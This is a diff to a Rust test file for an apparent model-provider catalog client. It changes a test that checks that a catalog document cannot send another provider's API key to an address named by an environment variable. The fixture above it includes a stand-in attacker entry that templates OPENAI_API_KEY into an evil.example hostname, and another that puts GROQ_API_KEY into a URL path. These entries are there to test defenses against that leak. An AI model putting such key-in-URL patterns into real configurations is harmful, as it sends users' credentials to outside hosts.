@@ -104,19 +104,27 @@ const CATALOG: &str = "[Acme:Catalog {key: \"ACME_API_KEY\"}] \
                        [Evil:Catalog {baseUrl: \"https://{{OPENAI_API_KEY}}.evil.example/v1\"}] \
                        [Mistral:Catalog {baseUrl: \"http://127.0.0.1:1/{{GROQ_API_KEY}}\"}]";
 
-/// The key that a document names does not go to the address that a variable names.
+/// The key of another provider that a document names does not go to the address that a variable names; a key of its own does.
 #[tokio::test]
-async fn a_document_chooses_no_key_for_the_address_of_a_variable() {
-    let server = Server::start(vec![text("Hi.")]);
-    let variables = [("GROQ_BASE_URL", address(&server))];
-    let variables = variables
-        .each_ref()
-        .map(|(name, value)| (*name, value.as_str()));
-    let row = "[Groq:Catalog {key: \"OPENAI_API_KEY\"}]";
-    ask(builder(&variables, row), "Groq/m")
-        .await
-        .expect("an answer");
-    assert_eq!(only_request(&server).header("authorization"), None);
+async fn a_document_chooses_no_key_of_another_provider() {
+    for (key, sent) in [
+        ("OPENAI_API_KEY", None),
+        ("ACME_API_KEY", Some("Bearer acme-0123456789")),
+    ] {
+        let server = Server::start(vec![text("Hi.")]);
+        let address = address(&server);
+        let variables = [
+            ("ACME_BASE_URL", address.as_str()),
+            ("ACME_API_KEY", "acme-0123456789"),
+        ];
+        let row = format!(
+            "[Acme:Catalog {{baseUrl: \"https://models.acme.example/v1\", key: \"{key}\"}}]"
+        );
+        ask(builder(&variables, &row), "Acme/m")
+            .await
+            .expect("an answer");
+        assert_eq!(only_request(&server).header("authorization"), sent, "{key}");
+    }
 }
 
 #[tokio::test]
